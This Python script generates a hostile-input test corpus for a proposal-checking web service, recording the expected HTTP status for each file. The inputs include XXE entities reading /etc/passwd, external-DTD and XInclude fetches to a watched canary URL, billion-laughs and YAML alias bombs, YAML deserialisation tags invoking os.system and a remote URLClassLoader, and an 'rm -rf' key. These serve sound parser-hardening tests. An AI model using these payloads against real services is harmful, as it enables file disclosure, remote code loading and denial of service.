#!/usr/bin/env python3
"""Writes the hostile-input corpus (issue 14): each file with what the service must answer, in
MANIFEST.tsv (file, Content-Type, status, a text the problem must contain). ${CANARY} in a file is
replaced by the test with the URL of a socket it watches, so that any network request is seen;
/etc/passwd and /etc/hostname stand for any file the service must never read. Run from this folder;
the files are committed, this script says how they were made."""
import json, pathlib

here = pathlib.Path(__file__).parent
rows = []
VALID = json.loads((here / "../../../../examples/nl-subsidiary-protection-waiting-36-months.json").read_text())
MEASURE = VALID["measures"][0]

def put(name, content, ctype, status, names):
    data = content if isinstance(content, bytes) else content.encode("utf-8")
    (here / name).write_bytes(data)
    rows.append((name, ctype, str(status), names))

def proposal(**over):
    p = json.loads(json.dumps(VALID))
    p.update(over)
    return p

def measure(**over):
    m = json.loads(json.dumps(MEASURE))
    m.update(over)
    return m

J, X, Y = "application/json", "application/xml", "application/yaml"
XML_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
XML_BODY = ('<proposal xmlns="urn:lexcheck:proposal:1" id="p" jurisdiction="NL">'
            '<measure id="m1" type="FR_WAITING_PERIOD"><targetGroup>SUBSIDIARY_PROTECTION</targetGroup>'
            '<parameter name="months">&x;</parameter></measure></proposal>')

# --- XML: entities, DOCTYPE, XInclude -------------------------------------------------------
put("xml-xxe-local-file.xml", XML_HEAD + '<!DOCTYPE proposal [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + XML_BODY, X, 400, "DOCTYPE")
put("xml-xxe-hostname.xml", XML_HEAD + '<!DOCTYPE proposal [<!ENTITY x SYSTEM "file:///etc/hostname">]>' + XML_BODY, X, 400, "DOCTYPE")
put("xml-xxe-url.xml", XML_HEAD + '<!DOCTYPE proposal [<!ENTITY x SYSTEM "${CANARY}/entity">]>' + XML_BODY, X, 400, "DOCTYPE")
put("xml-xxe-parameter-entity.xml", XML_HEAD + '<!DOCTYPE proposal [<!ENTITY % p SYSTEM "${CANARY}/param"> %p;]>' + XML_BODY.replace("&x;", "12"), X, 400, "DOCTYPE")
put("xml-external-dtd.xml", XML_HEAD + '<!DOCTYPE proposal SYSTEM "${CANARY}/proposal.dtd">' + XML_BODY.replace("&x;", "12"), X, 400, "DOCTYPE")
put("xml-public-dtd.xml", XML_HEAD + '<!DOCTYPE proposal PUBLIC "-//X//DTD X//EN" "${CANARY}/public.dtd">' + XML_BODY.replace("&x;", "12"), X, 400, "DOCTYPE")
laughs = '<!DOCTYPE proposal [<!ENTITY a "lol">' + "".join(f'<!ENTITY {chr(98+i)} "{("&"+chr(97+i)+";")*10}">' for i in range(9)) + "]>"
put("xml-billion-laughs.xml", XML_HEAD + laughs + XML_BODY.replace("&x;", "&j;"), X, 400, "DOCTYPE")
put("xml-quadratic-blowup.xml", XML_HEAD + '<!DOCTYPE proposal [<!ENTITY x "' + "A" * 50000 + '">]>' + XML_BODY.replace("&x;", "&x;" * 200), X, 400, "DOCTYPE")
put("xml-doctype-only.xml", XML_HEAD + '<!DOCTYPE proposal>' + XML_BODY.replace("&x;", "12"), X, 400, "DOCTYPE")
put("xml-internal-entity.xml", XML_HEAD + '<!DOCTYPE proposal [<!ENTITY x "12">]>' + XML_BODY, X, 400, "DOCTYPE")
put("xml-xinclude-file.xml", XML_HEAD + XML_BODY.replace("&x;", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'), X, 400, "")
put("xml-xinclude-url.xml", XML_HEAD + XML_BODY.replace("&x;", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${CANARY}/xinclude" parse="text"/>'), X, 400, "")
put("xml-undeclared-entity.xml", XML_HEAD + XML_BODY, X, 400, "")
# Accepted (201) but never followed: the stylesheet and the schema they name are not fetched.
put("xml-xslt-pi.xml", XML_HEAD + '<?xml-stylesheet type="text/xsl" href="${CANARY}/style.xsl"?>' + XML_BODY.replace("&x;", "12"), X, 201, "")
put("xml-schema-location.xml", XML_HEAD + XML_BODY.replace("&x;", "12").replace('jurisdiction="NL"', 'jurisdiction="NL" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:lexcheck:proposal:1 ${CANARY}/schema.xsd"'), X, 201, "")
put("xml-deep-nesting.xml", XML_HEAD + "<a>" * 5000 + "</a>" * 5000, X, 400, "")
put("xml-unclosed.xml", XML_HEAD + XML_BODY.replace("&x;", "12")[:-12], X, 400, "")
put("xml-wrong-namespace.xml", XML_HEAD + XML_BODY.replace("&x;", "12").replace("urn:lexcheck:proposal:1", "urn:other"), X, 400, "")
put("xml-wrong-root.xml", XML_HEAD + "<report/>", X, 400, "")
put("xml-unknown-element.xml", XML_HEAD + XML_BODY.replace("&x;", "12").replace("</measure>", "<script>x</script></measure>"), X, 400, "")
put("xml-utf16-declared-utf8-bytes.xml", XML_HEAD.replace("UTF-8", "UTF-16") + XML_BODY.replace("&x;", "12"), X, 400, "")
put("xml-invalid-utf8.xml", XML_HEAD.encode() + XML_BODY.replace("&x;", "12").encode().replace(b'id="p"', b'id="p\xff\xfe"'), X, 400, "")
put("xml-control-character.xml", XML_HEAD + XML_BODY.replace("&x;", "12").replace('id="p"', 'id="p&#1;"'), X, 400, "")
put("xml-empty.xml", b"", X, 400, "")
put("xml-huge-number.xml", XML_HEAD + XML_BODY.replace("&x;", "9" * 400), X, 400, "months")
put("xml-negative-number.xml", XML_HEAD + XML_BODY.replace("&x;", "-5"), X, 400, "months")
#put("xml-fraction.xml", XML_HEAD + XML_BODY.replace("&x;", "12.5"), X, 400, "months")
put("xml-nan.xml", XML_HEAD + XML_BODY.replace("&x;", "NaN"), X, 400, "months")
put("xml-duplicate-ids.xml", XML_HEAD + XML_BODY.replace("&x;", "12").replace("</measure>", "</measure>" + XML_BODY.replace("&x;", "12")[XML_BODY.index("<measure"):XML_BODY.index("</measure>") + 10], 1), X, 400, "")
put("xml-as-json.xml", json.dumps(VALID), X, 400, "")

# --- JSON -----------------------------------------------------------------------------------
put("json-deep-nesting.json", "[" * 5000 + "]" * 5000, J, 400, "")
put("json-deep-object.json", '{"a":' * 5000 + "1" + "}" * 5000, J, 400, "")
put("json-duplicate-key.json", '{"id":"a","id":"b","jurisdiction":"NL","measures":[]}', J, 400, "")
put("json-duplicate-measure-id.json", json.dumps(proposal(measures=[MEASURE, MEASURE])), J, 400, "")
put("json-huge-number.json", json.dumps(proposal(measures=[measure(parameters={"months": 10**400})])), J, 400, "months")
put("json-huge-exponent.json", json.dumps(proposal(measures=[measure(parameters={"months": 1})])).replace('"months": 1', '"months": 1e999999999'), J, 400, "months")
put("json-negative.json", json.dumps(proposal(measures=[measure(parameters={"months": -3})])), J, 400, "months")
# A fraction is a number like any other (contract section 3: decimals allowed); an unknown
# measure type is no error but NOT_ASSESSED (section 3): neither belongs here.
put("json-month-13.json", json.dumps(proposal(entryIntoForce="2026-13-01")), J, 400, "entryIntoForce")
#put("json-fraction.json", json.dumps(proposal(measures=[measure(parameters={"months": 12.5})])), J, 400, "months")
put("json-nan.json", json.dumps(proposal(measures=[measure(parameters={"months": 1})])).replace('"months": 1', '"months": NaN'), J, 400, "")
put("json-infinity.json", json.dumps(proposal(measures=[measure(parameters={"months": 1})])).replace('"months": 1', '"months": Infinity'), J, 400, "")
put("json-number-as-string.json", json.dumps(proposal(measures=[measure(parameters={"months": "36"})])), J, 400, "months")
put("json-boolean-as-number.json", json.dumps(proposal(measures=[measure(parameters={"months": True})])), J, 400, "months")
put("json-null-months.json", json.dumps(proposal(measures=[measure(parameters={"months": None})])), J, 400, "months")
put("json-array-as-object.json", json.dumps(proposal(measures={"m1": MEASURE})), J, 400, "measures")
#put("json-unknown-type.json", json.dumps(proposal(measures=[measure(type="FR_EXECUTE_ORDER_66")])), J, 400, "type")
put("json-unknown-group.json", json.dumps(proposal(measures=[measure(targetGroups=["EVERYONE"])])), J, 400, "targetGroups")
put("json-unknown-jurisdiction.json", json.dumps(proposal(jurisdiction="XX")), J, 400, "jurisdiction")
put("json-lowercase-jurisdiction.json", json.dumps(proposal(jurisdiction="nl")), J, 400, "jurisdiction")
put("json-unknown-field.json", json.dumps(proposal(evil="x")), J, 400, "evil")
put("json-unknown-parameter.json", json.dumps(proposal(measures=[measure(parameters={"months": 3, "rm -rf": 1})])), J, 400, "rm -rf")
put("json-invalid-date.json", json.dumps(proposal(entryIntoForce="2026-02-30")), J, 400, "entryIntoForce")
put("json-date-garbage.json", json.dumps(proposal(entryIntoForce="yesterday")), J, 400, "entryIntoForce")
put("json-date-not-leap-year.json", json.dumps(proposal(entryIntoForce="2027-02-29")), J, 400, "entryIntoForce")
put("json-date-with-time.json", json.dumps(proposal(entryIntoForce="2027-01-01T00:00:00Z")), J, 400, "entryIntoForce")
put("json-empty.json", b"", J, 400, "")
put("json-whitespace.json", "   \n\t ", J, 400, "")
put("json-null.json", "null", J, 400, "")
put("json-array-root.json", "[]", J, 400, "")
put("json-string-root.json", '"proposal"', J, 400, "")
put("json-trailing-garbage.json", json.dumps(VALID) + "}{", J, 400, "")
put("json-comments.json", "/* hi */" + json.dumps(VALID), J, 400, "")
put("json-invalid-utf8.json", json.dumps(VALID).encode().replace(b'"NL"', b'"N\xc3\x28"'), J, 400, "")
put("json-overlong-utf8.json", json.dumps(VALID).encode().replace(b'"NL"', b'"\xc0\xaeNL"'), J, 400, "")
put("json-control-character.json", json.dumps(VALID).replace('"NL"', '"N\u0001L"', 1).replace("\\u0001", "\u0001"), J, 400, "")
put("json-nul-in-id.json", json.dumps(proposal(id="p\u0000x")), J, 400, "id")
put("json-utf16-bom-as-utf8.json", b"\xff\xfe" + json.dumps(VALID).encode(), J, 400, "")
put("json-bom-in-middle.json", json.dumps(VALID).replace('"measures"', '\ufeff"measures"'), J, 400, "")
put("json-long-id.json", json.dumps(proposal(id="x" * 100000)), J, 400, "id")
put("json-too-many-measures.json", json.dumps(proposal(measures=[measure(id=f"m{i}") for i in range(201)])), J, 400, "measures")
# A body over 1 MiB is made by the test (HostileInputTest), not kept here.
put("json-as-xml.json", XML_HEAD + XML_BODY.replace("&x;", "12"), J, 400, "")
put("json-yaml-content.json", "id: p\njurisdiction: NL\n", J, 400, "")
put("json-wrong-content-type.json", json.dumps(VALID), "text/plain", 415, "Content-Type")
put("json-no-content-type.json", json.dumps(VALID), "-", 400, "Content-Type")
put("json-image-content-type.json", json.dumps(VALID), "image/png", 415, "Content-Type")
put("json-form-content-type.json", json.dumps(VALID), "application/x-www-form-urlencoded", 415, "Content-Type")

# --- YAML -----------------------------------------------------------------------------------
put("yaml-alias-bomb.yaml", "a: &a [x,x,x,x,x,x,x,x,x,x]\n" + "".join(f"{chr(98+i)}: &{chr(98+i)} [" + ",".join([f"*{chr(97+i)}"] * 10) + "]\n" for i in range(9)), Y, 400, "")
put("yaml-java-tag.yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"${CANARY}/yaml\"]]]]\n", Y, 400, "")
put("yaml-custom-tag.yaml", "id: !!python/object/apply:os.system ['id']\njurisdiction: NL\nmeasures: []\n", Y, 400, "")
put("yaml-local-tag.yaml", "id: !evil p\njurisdiction: NL\nmeasures: []\n", Y, 400, "")
put("yaml-deep-nesting.yaml", "a: " + "[" * 10000 + "]" * 10000 + "\n", Y, 400, "")
put("yaml-duplicate-key.yaml", "id: a\nid: b\njurisdiction: NL\nmeasures: []\n", Y, 400, "")
put("yaml-merge-key.yaml", "base: &b {id: p}\n<<: *b\njurisdiction: NL\nmeasures: []\n", Y, 400, "")
put("yaml-multiple-documents.yaml", "id: p\njurisdiction: NL\nmeasures: []\n---\nid: q\n", Y, 400, "")
put("yaml-octal-months.yaml", "id: p\njurisdiction: NL\nmeasures:\n- id: m1\n  type: FR_WAITING_PERIOD\n  targetGroups: [SUBSIDIARY_PROTECTION]\n  parameters: {months: 0o777777777777777777777}\n", Y, 400, "months")
put("yaml-infinity.yaml", "id: p\njurisdiction: NL\nmeasures:\n- id: m1\n  type: FR_WAITING_PERIOD\n  targetGroups: [SUBSIDIARY_PROTECTION]\n  parameters: {months: .inf}\n", Y, 400, "")
put("yaml-nan.yaml", "id: p\njurisdiction: NL\nmeasures:\n- id: m1\n  type: FR_WAITING_PERIOD\n  targetGroups: [SUBSIDIARY_PROTECTION]\n  parameters: {months: .nan}\n", Y, 400, "")
put("yaml-tab-indent.yaml", "id: p\njurisdiction: NL\nmeasures:\n\t- id: m1\n", Y, 400, "")
put("yaml-empty.yaml", b"", Y, 400, "")
put("yaml-scalar-root.yaml", "just a string\n", Y, 400, "")
put("yaml-invalid-utf8.yaml", b"id: p\xff\njurisdiction: NL\nmeasures: []\n", Y, 400, "")

(here / "MANIFEST.tsv").write_text(
    "# file\tContent-Type (- for none)\tstatus\ta text the problem must contain (empty: any problem)\n"
    + "".join("\t".join(r) + "\n" for r in rows), encoding="utf-8")
print(len(rows), "files")
